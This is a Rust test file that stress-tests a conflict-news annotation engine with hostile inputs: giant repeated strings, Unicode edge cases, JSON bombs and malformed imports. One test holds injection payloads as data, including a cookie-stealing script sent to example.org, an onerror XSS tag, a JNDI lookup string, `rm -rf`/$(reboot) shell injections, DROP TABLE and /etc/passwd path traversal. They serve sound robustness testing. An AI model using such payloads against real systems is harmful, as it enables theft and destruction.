//! Inputs that somebody made to do harm, or that no newsroom would print: each ends in time, without a panic, and with
//! everything that `robust` asks for in place.
//!
//! Sizes are for every day; `cargo test --release --test hostile` takes them whole (10 MB), and so does
//! `HOSTILE_BYTES=10000000`.

mod robust;

use conflict_annotator::export::{export, read, Format};
use conflict_annotator::model::OffsetUnit;
use conflict_annotator::Engine;
use robust::exports::{exports_hold, import_holds};
use robust::{annotate, annotation_stands, appending_keeps, words};
use std::path::Path;

/// How long the long ones are.
fn length() -> usize {
    let default = if cfg!(debug_assertions) { 200_000 } else { 10_000_000 };
    std::env::var("HOSTILE_BYTES").ok().and_then(|bytes| bytes.parse().ok()).unwrap_or(default)
}

/// One after the other, to save memory; all tests share the engine's tables no further.
fn all_stand(texts: &[(&str, &dyn Fn() -> String)]) {
    let engine = Engine::new();
    for (name, text) in texts {
        annotation_stands(&engine, &text()).unwrap_or_else(|problem| panic!("{name}: {problem}"));
    }
}

fn repeated(part: &str) -> String {
    part.repeat(length() / part.len())
}

#[test]
fn long_runs_of_one_thing() {
    all_stand(&[
        ("one word", &|| repeated("a")),
        ("one name", &|| repeated("Mosul")),
        ("digits", &|| repeated("7")),
        ("digits and commas", &|| repeated("1,000,")),
        ("double quotes", &|| repeated("\"")),
        ("quotes of all kinds", &|| repeated("\"'“”‘’``''«»")),
        ("combining marks", &|| format!("a{}", repeated("\u{301}"))),
        ("right to left", &|| repeated("قتل 12 جنديا في حلب. ")),
        ("overrides", &|| repeated("\u{202e}killed\u{202c}\u{2067}two\u{2069}")),
        ("NUL", &|| repeated("\0")),
        ("NUL between words", &|| repeated("two\0soldiers\0killed\0")),
        ("replacement characters, as lone surrogates arrive", &|| repeated("\u{fffd}")),
        ("emoji joined", &|| repeated("👨\u{200d}👩\u{200d}👧\u{200d}")),
        ("spaces", &|| repeated(" ")),
        ("line ends", &|| repeated("\r\n")),
        ("hyphens", &|| repeated("al-")),
    ]);
}

/// Names without a space between are read from both sides; no two marks may share a word for that.
#[test]
fn names_glued_together() {
    all_stand(&[
        ("adjectives", &|| "Anti-MuslimAnti-MuslimAnti-Muslim ".into()),
        ("a state and a group", &|| "Turkeyal-Shabab ".into()),
        ("a name and its army", &|| "Fortldiety-TAu y-Ttwuorkihs troops".into()),
        ("many", &|| repeated("KremlinUkrainian-RussianArmyAl-Qaeda")),
    ]);
}

#[test]
fn brackets_and_quotes_in_each_other() {
    let deep = |open: &str, close: &str| {
        let depth = length() / (open.len() + close.len()).max(1);
        format!("{}two soldiers were killed{}", open.repeat(depth), close.repeat(depth))
    };
    all_stand(&[
        ("round", &|| deep("(", ")")),
        ("all", &|| deep("([{<", ">}])")),
        ("quotes", &|| deep("“‘", "’”")),
        ("words between", &|| deep("(the army said ", " in Mosul)")),
        ("open for ever", &|| repeated("(")),
        ("closed for ever", &|| repeated(")")),
        ("he said that she said", &|| repeated("\"he said that ")),
    ]);
}

#[test]
fn one_line_without_end() {
    let line = "two soldiers were killed near Goma and three were wounded on Tuesday, he said, and ";
    all_stand(&[
        ("a sentence that never ends", &|| line.repeat(length().min(1_000_000) / line.len())),
        ("a table row that never ends", &|| repeated("Kharkiv\t12\t2022-09-12\t")),
        ("a list that never ends", &|| repeated("Mosul, ")),
        ("a name that never ends", &|| repeated("Abu Bakr ")),
        ("a number that never ends", &|| repeated("twenty thousand ")),
    ]);
}

#[test]
fn ten_thousand_dates() {
    let dates: String = (0..10_000)
        .map(|n| format!("On {} {}, {} they met. ", ["March", "Sept.", "July"][n % 3], 1 + n % 28, 1900 + n % 130))
        .collect();
    let engine = Engine::new();
    let annotation = annotate(&engine, &dates, OffsetUnit::Utf16);
    assert_eq!(annotation.dates.len(), 10_000);
    annotation_stands(&engine, &dates).unwrap_or_else(|problem| panic!("{problem}"));
}

/// Every assigned or unassigned block gives characters, alone and glued to words that rules wake at.
#[test]
fn every_block_of_unicode() {
    let engine = Engine::new();
    for block in (0..0x11_0000_u32).step_by(256) {
        let characters: Vec<char> = (block..block + 256).step_by(29).filter_map(char::from_u32).collect();
        let text: String = characters
            .iter()
            .flat_map(|c| {
                [format!("{c}12{c}soldiers{c}"), format!("kil{c}led in Mo{c}sul "), format!("{c} on 3{c}March{c}.")]
            })
            .collect();
        robust::annotation_holds(&engine, &text).unwrap_or_else(|problem| panic!("U+{block:04X}: {problem}\n{text:?}"));
    }
}

/// Markup, scripts, formulas and paths are words like others, in the marks and in every export.
/// A pasted text may end, or a line break, after any word: found by fuzzing at "political and". A noun may lack the name that
/// it announces.
#[test]
fn sentences_that_break_off() {
    let engine = Engine::new();
    let mut texts: Vec<String> =
        ["Political and", "the defence and", "Said the charity President Marzit."].map(String::from).to_vec();
    for sentence in words::sentences_of_cases(Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/cases"))) {
        let cuts = sentence.match_indices(' ').map(|(at, _)| at).chain([sentence.len()]);
        texts.extend(cuts.map(|at| sentence[..at].to_owned()));
    }
    assert!(texts.len() > 10_000, "{}", texts.len());
    for text in texts {
        annotation_stands(&engine, &text).unwrap_or_else(|problem| panic!("{problem}\n{text}"));
    }
}

/// A rule that looks at the next word must not look into the next paragraph: found by fuzzing.
#[test]
fn the_next_paragraph_says_nothing_of_a_date() {
    let engine = Engine::new();
    for (first, second) in [("They shelled it daily", "published figures say so."), ("It burns weekly", "said a man.")]
    {
        appending_keeps(&engine, first, second).unwrap_or_else(|problem| panic!("{problem}"));
    }
}

#[test]
fn markup_formulas_and_paths() {
    let engine = Engine::new();
    for text in [
        "<script>fetch('//example.org?'+document.cookie)</script> killed two soldiers in <b>Mosul</b> on <i>Tuesday</i>.",
        "</mark></article><img src=x onerror=alert(1)> Two civilians were killed in Goma, <!-- Reuters said.",
        "=HYPERLINK(\"http://example.org\") killed 3 people, +1 soldier was wounded, -2 tanks, @SUM(A1) in Aleppo.",
        "]]></TEXT></TimeML> Three people were killed on 3 March 2018 & \"four\" <TIMEX3 tid=\"t9\">on Monday</TIMEX3>.",
        "../../etc/passwd and C:\\Windows killed two; %2e%2e%2f three died in Mosul\0.txt",
        "T1\tParty 0 4\tIraq\nTwo soldiers\twere killed\r\nin Kirkuk.\n#1\tAnnotatorNotes T1\tx",
        "${jndi:ldap://example.org/a} `rm -rf` $(reboot); DROP TABLE soldiers; 12 were killed in Kabul",
    ] {
        let annotation = annotate(&engine, text, OffsetUnit::Codepoint);
        exports_hold(&annotation).unwrap_or_else(|problem| panic!("{problem}\n{text}"));
        let page = String::from_utf8(export(&annotation, Format::Html)).expect("UTF-8");
        assert!(!page.contains("<script") && !page.contains("<img") && !page.contains("<!--"), "{page}");
    }
}

#[test]
fn imports_that_lie() {
    let wrong = [
        "",
        "{",
        "null",
        "[]",
        "\"text\"",
        "{\"text\":7}",
        "{\"text\":\"x\",\"parties\":{\"0\":{}}}",
        "{\"text\":\"x\",\"parties\":[null,7,\"a\",[],{}]}",
        "{\"text\":\"x\",\"dates\":[{\"start\":1e308,\"end\":-1}]}",
        "{\"text\":\"é🕊\",\"offset_unit\":\"byte\",\"casualties\":[{\"start\":1,\"end\":3,\"victim_span\":[2,1],\"claimant_span\":[9,9,9]}]}",
        "{\"text\":\"x\",\"text\":\"y\",\"__proto__\":{\"polluted\":true},\"constructor\":{\"prototype\":{}}}",
        "{\"id\":\"../../../etc/cron.d/x\",\"text\":\"Two died in Goma.\",\"locations\":[{\"id\":\"../x\",\"start\":12,\"end\":16,\"canonical\":\"..\\\\..\\\\x\"}]}",
        "\u{feff}{\"text\":\"x\"}",
        "{\"text\":\"\\ud800\"}",
    ];
    for json in wrong {
        import_holds(json).unwrap_or_else(|problem| panic!("{problem}\n{json}"));
    }
}

/// Nothing that an import holds may grow without measure on its way out, and nothing may take for ever.
#[test]
fn json_bombs() {
    let scale = if cfg!(debug_assertions) { 1_000 } else { 10_000 };
    let bombs: [(&str, String); 5] = [
        ("lists in lists", "[".repeat(scale * 100)),
        ("objects in objects", "{\"document\":".repeat(scale * 100)),
        ("marks in marks", {
            let marks: Vec<String> = (0..scale)
                .map(|n| format!("{{\"id\":\"p{n}\",\"start\":{n},\"end\":{},\"canonical\":[\"x\"]}}", 2 * scale - n))
                .collect();
            format!("{{\"text\":\"{}\",\"parties\":[{}]}}", "x".repeat(2 * scale), marks.join(","))
        }),
        ("one place in many places, each with all claims", {
            let places: Vec<String> = (0..scale)
                .map(|n| {
                    format!(
                        "{{\"start\":0,\"end\":1,\"canonical\":\"x\",\"primary\":true,\"lat\":{}.5,\"lon\":1}}",
                        n % 90
                    )
                })
                .collect();
            let claims = vec!["{\"start\":0,\"end\":1,\"place\":\"x\",\"date\":\"2022\"}"; scale];
            format!("{{\"text\":\"xy\",\"locations\":[{}],\"casualties\":[{}]}}", places.join(","), claims.join(","))
        }),
        ("many claims, all of one cluster", {
            let claims: Vec<String> = (0..scale)
                .map(|n| {
                    format!(
                        "{{\"start\":0,\"end\":1,\"cluster\":\"c\",\"outcome\":\"killed\",\"place\":\"{n}\",\
                         \"claimant_span\":[0,1],\"count\":{{\"low\":18446744073709551615}}}}"
                    )
                })
                .collect();
            format!("{{\"text\":\"xy\",\"casualties\":[{}]}}", claims.join(","))
        }),
    ];
    for (name, json) in bombs {
        let Ok(annotation) = read(&json) else { continue };
        for (format, format_name) in Format::ALL {
            let bytes = export(&annotation, format).len();
            assert!(
                bytes < json.len() * 40 + 100_000,
                "{name}: {} bytes of JSON became {bytes} of {format_name}",
                json.len()
            );
        }
    }
}
